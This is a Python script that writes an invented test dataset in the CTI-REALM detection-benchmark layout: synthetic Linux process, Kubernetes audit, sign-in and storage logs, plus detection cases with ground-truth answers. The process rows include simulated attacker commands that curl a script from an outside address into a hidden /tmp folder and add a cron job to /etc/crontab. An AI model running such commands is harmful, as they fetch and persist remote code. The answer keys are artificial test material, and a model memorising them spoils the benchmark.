"""Writes the small made-up dataset in the upstream CTI-REALM layout under ``upstream/cti_realm``.

Every value is invented for the project's tests (no upstream content): four
cases, three reports, five tables (a few hundred rows), with the upstream
quirks the importer must handle: the ``SignInLogs`` spelling, the
``storageboblogs.jsonl`` file name, column names that upstream sanitises
(``_ResourceId``, ``Properties.Status``, ``[Level]``, ``Client App``) and a
table whose natural id column repeats. Deterministic: run it again and the
files are byte-identical.

    python tests/interop/data/make_upstream.py
"""

from __future__ import annotations

import json
import random
from datetime import UTC, datetime, timedelta
from pathlib import Path

ROOT = Path(__file__).parent / "upstream" / "cti_realm"
START = datetime(2025, 6, 2, tzinfo=UTC)


def _when(rng: random.Random) -> str:
    moment = START + timedelta(seconds=rng.randrange(0, 5 * 86400))
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{rng.randrange(0, 10_000_000):07d}Z"


def _uuid(rng: random.Random) -> str:
    h = f"{rng.getrandbits(128):032x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"


def _write(path: Path, rows: list[dict]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")


def process_rows(rng: random.Random) -> list[dict]:
    hosts = ["web-01.contoso.test", "db-02.contoso.test", "build-03.contoso.test"]
    benign = [
        "/usr/bin/apt-get update",
        "/usr/sbin/cron -f",
        "/usr/bin/python3 /opt/app/worker.py",
        "/bin/bash -c 'crontab -l'",
        "/usr/bin/systemctl status nginx",
        "sshd: admin [priv]",
    ]
    rows = []
    for i in range(115):
        command = rng.choice(benign)
        rows.append(
            {
                "TimeGenerated": _when(rng),
                "Timestamp": None,
                "DeviceName": rng.choice(hosts),
                "AccountName": rng.choice(["root", "admin", "www-data"]),
                "FileName": command.split()[0].rsplit("/", 1)[-1],
                "ProcessCommandLine": command,
                "ProcessId": rng.randrange(100, 60000),
                "InitiatingProcessFileName": rng.choice(["bash", "systemd", "sshd"]),
                "ReportId": 710_000_000_000 + i * 7919,
                "_ResourceId": "",
                "AdditionalFields": {"uid": rng.choice([0, 33, 1000])},
            }
        )
    for i, command in enumerate(
        [
            "/bin/bash -c 'echo \"*/5 * * * * /tmp/.x/c0ffee11-persist.sh\" >> /etc/crontab'",
            "/usr/bin/crontab /tmp/.x/c0ffee11-persist.cron",
            "/bin/sh /tmp/.x/c0ffee11-persist.sh",
            "/usr/bin/curl -s http://203.0.113.9/c0ffee11-persist.sh -o /tmp/.x/p.sh",
            "/bin/chmod +x /tmp/.x/c0ffee11-persist.sh",
        ]
    ):
        rows.append(
            {
                "TimeGenerated": _when(rng),
                "Timestamp": None,
                "DeviceName": hosts[0],
                "AccountName": "www-data",
                "FileName": command.split()[0].rsplit("/", 1)[-1],
                "ProcessCommandLine": command,
                "ProcessId": 40_000 + i,
                "InitiatingProcessFileName": "bash",
                "ReportId": 720_000_000_000 + i * 104_729,
                "_ResourceId": "",
                "AdditionalFields": {"uid": 33},
            }
        )
    for row in rows:
        row["Timestamp"] = row["TimeGenerated"]
    rng.shuffle(rows)
    return rows


def file_rows(rng: random.Random) -> list[dict]:
    return [
        {
            "TimeGenerated": _when(rng),
            "DeviceName": "web-01.contoso.test",
            "FileName": f"log-{i}.gz",
            "FolderPath": f"/var/log/app/log-{i}.gz",
            "ActionType": "FileCreated",
            "ReportId": 730_000_000_000 + i * 31,
            "SHA256": f"{rng.getrandbits(256):064x}",
        }
        for i in range(20)
    ]


def audit_rows(rng: random.Random) -> list[dict]:
    rows = []
    users = [
        "system:serviceaccount:kube-system:deployment-controller",
        "alice@contoso.test",
        "system:serviceaccount:monitoring:prometheus",
    ]
    for _ in range(96):
        resource = rng.choice(["pods", "configmaps", "deployments", "secrets"])
        rows.append(
            {
                "TimeGenerated": _when(rng),
                "AuditId": _uuid(rng),
                "[Level]": "Metadata",
                "Verb": rng.choice(["get", "list", "watch"]),
                "RequestURI": f"/api/v1/namespaces/default/{resource}",
                "ObjectRef.Resource": resource,
                "User": {"username": rng.choice(users)},
                "UserAgent": rng.choice(
                    ["kube-controller-manager/v1.29.4", "kubectl/v1.29.2", "Prometheus/2.51.0"]
                ),
                "ResponseStatus": {"code": 200},
            }
        )
    for i in range(4):
        rows.append(
            {
                "TimeGenerated": _when(rng),
                "AuditId": _uuid(rng),
                "[Level]": "Metadata",
                "Verb": "list" if i % 2 == 0 else "get",
                "RequestURI": "/api/v1/secrets"
                if i % 2 == 0
                else "/api/v1/namespaces/kube-system/secrets/bootstrap-token",
                "ObjectRef.Resource": "secrets",
                "User": {"username": "system:serviceaccount:web:frontend"},
                "UserAgent": "python-requests/2.31 sim-9d2b41",
                "ResponseStatus": {"code": 200},
            }
        )
    rng.shuffle(rows)
    return rows


def signin_rows(rng: random.Random) -> list[dict]:
    rows = []
    for _ in range(77):
        rows.append(
            {
                "TimeGenerated": _when(rng),
                "Id": _uuid(rng),
                "UserPrincipalName": rng.choice(["alice@contoso.test", "bob@contoso.test"]),
                "IPAddress": f"198.51.100.{rng.randrange(1, 250)}",
                "ResultType": "0",
                "Client App": "Browser",
                "UserAgent": "Mozilla/5.0 (X11; Linux x86_64)",
                "Properties.Status": {"errorCode": 0},
                "_ResourceId": "/tenants/contoso",
                "IsInteractive": True,
            }
        )
    for _ in range(3):
        rows.append(
            {
                "TimeGenerated": _when(rng),
                "Id": _uuid(rng),
                "UserPrincipalName": rng.choice(["alice@contoso.test", "carol@contoso.test"]),
                "IPAddress": "203.0.113.77",
                "ResultType": "50126",
                "Client App": "Other clients",
                "UserAgent": "c1oud-spray-77/1.0",
                "Properties.Status": {"errorCode": 50126},
                "_ResourceId": "/tenants/contoso",
                "IsInteractive": False,
            }
        )
    rng.shuffle(rows)
    return rows


def blob_rows(rng: random.Random) -> list[dict]:
    rows = []
    correlation = [_uuid(rng) for _ in range(20)]
    for i in range(58):
        rows.append(
            {
                "TimeGenerated": _when(rng),
                "CorrelationId": rng.choice(correlation),
                "OperationName": rng.choice(["GetBlob", "PutBlob", "ListBlobs"]),
                "AccountName": "contosodata",
                "ObjectKey": f"/contosodata/reports/daily-{i}.csv",
                "CallerIpAddress": "10.1.2.3:443",
                "StatusCode": 200,
                "DurationMs": rng.random() * 40,
            }
        )
    for i in range(2):
        rows.append(
            {
                "TimeGenerated": _when(rng),
                "CorrelationId": _uuid(rng),
                "OperationName": "GetBlob",
                "AccountName": "contosodata",
                "ObjectKey": f"/contosodata/hr/exfil-5e5e-{i}.zip",
                "CallerIpAddress": "203.0.113.40:51522",
                "StatusCode": 200,
                "DurationMs": 812.5,
            }
        )
    rng.shuffle(rows)
    return rows


CASES = [
    {
        "id": "linux_001",
        "subsets": ["25", "50"],
        "techniques": ["T1053"],
        "sources": ["DeviceProcessEvents"],
        "patterns": {"ProcessCommandLine": ".*c0ffee11-persist.*"},
        "description": "Detect persistence through cron by monitoring processes that write scheduled "
        "task entries pointing at scripts in hidden temporary folders.",
    },
    {
        "id": "aks_001",
        "subsets": ["25", "50"],
        "techniques": ["T1552"],
        "sources": ["AKSAudit"],
        "patterns": {"UserAgent": ".*sim-9d2b41.*", "ObjectRef_Resource": "^secrets$"},
        "description": "Detect Kubernetes secret theft by monitoring workload service accounts that "
        "list or read secrets through the API server.",
    },
    {
        "id": "cloud_001",
        "subsets": ["50"],
        "techniques": ["T1110"],
        "sources": ["SignInLogs"],
        "patterns": {"UserAgent": ".*c1oud-spray-77.*"},
        "description": "Detect password spraying against Entra ID by monitoring failed sign-ins from "
        "one address across several accounts.",
    },
    {
        "id": "cloud_002",
        "subsets": ["50"],
        "techniques": ["T1530"],
        "sources": ["StorageBlobLogs"],
        "patterns": {"ObjectKey": ".*exfil-5e5e.*"},
        "description": "Detect data theft from cloud storage by monitoring blob downloads of archive "
        "files from addresses outside the organisation.",
    },
]

REPORTS = [
    {
        "id": "rep-linux-cron",
        "title": "Cron persistence in a cryptomining campaign",
        "tags": ["linux", "persistence", "execution"],
        "link": "https://example.test/reports/cron",
        "content": "An intrusion set drops shell scripts into hidden folders under /tmp and adds cron "
        "entries that run them every few minutes. Defenders should watch processes that "
        "edit crontab files or pipe downloaded scripts into shells.",
    },
    {
        "id": "rep-k8s-secrets",
        "title": "Service account abuse to read Kubernetes secrets",
        "tags": ["kubernetes", "credential access"],
        "link": "https://example.test/reports/k8s",
        "content": "After compromising a web workload, the actor used its service account token to "
        "list secrets cluster-wide and read bootstrap tokens from kube-system.",
    },
    {
        "id": "rep-cloud-spray",
        "title": "Password spraying and storage theft in a cloud tenant",
        "tags": ["azure", "entra id", "credential access", "exfiltration"],
        "link": "https://example.test/reports/cloud",
        "content": "A low-and-slow password spray from a single address preceded bulk downloads of "
        "archives from a storage account by the same actor.",
    },
]


def main() -> None:
    rng = random.Random(20250602)
    data = ROOT / "data"
    for subset in ("25", "50"):
        chosen = [c for c in CASES if subset in c["subsets"]]
        _write(
            data / f"dataset_samples_stratified_{subset}.jsonl",
            [
                {
                    "id": c["id"],
                    "ground_truth": {
                        "mitre_techniques": c["techniques"],
                        "data_sources": c["sources"],
                        "regex_patterns": c["patterns"],
                    },
                }
                for c in chosen
            ],
        )
        _write(
            data / f"dataset_answers_stratified_{subset}.jsonl",
            [
                {
                    "id": c["id"],
                    "detection_description": c["description"],
                    "subtasks": [
                        "find the relevant report",
                        "map the technique",
                        "explore the table",
                        "write and test the query",
                    ],
                }
                for c in chosen
            ],
        )
    (data / "sigma_rules.json").write_text(
        json.dumps(
            [
                {
                    "title": "Crontab edited from a temporary folder",
                    "description": "made-up rule",
                    "tags": ["attack.persistence", "attack.t1053.003"],
                    "logsource": {"product": "linux"},
                },
                {
                    "title": "Secret listed by a workload identity",
                    "description": "made-up rule",
                    "tags": ["attack.credential-access", "attack.t1552.007"],
                    "logsource": {"product": "kubernetes"},
                },
            ],
            indent=1,
        )
        + "\n",
        encoding="utf-8",
    )
    kusto = ROOT / "kusto_data"
    _write(kusto / "deviceprocessevents.jsonl", process_rows(rng))
    _write(kusto / "devicefileevents.jsonl", file_rows(rng))
    _write(kusto / "aksaudit.jsonl", audit_rows(rng))
    _write(kusto / "signinlogs.jsonl", signin_rows(rng))
    _write(kusto / "storageboblogs.jsonl", blob_rows(rng))
    _write(ROOT / "cti_reports" / "reports.jsonl", REPORTS)
    seeds = ROOT / "seed_memory"
    seeds.mkdir(parents=True, exist_ok=True)
    (seeds / "workflow.md").write_text(
        "# Workflow\n\nRead the reports, map techniques, explore "
        "tables, iterate on queries, validate the output.\n",
        encoding="utf-8",
    )
    (seeds / "tool_tips.md").write_text(
        "# Tool tips\n\nSample a table before querying it.\n", encoding="utf-8"
    )


if __name__ == "__main__":
    main()
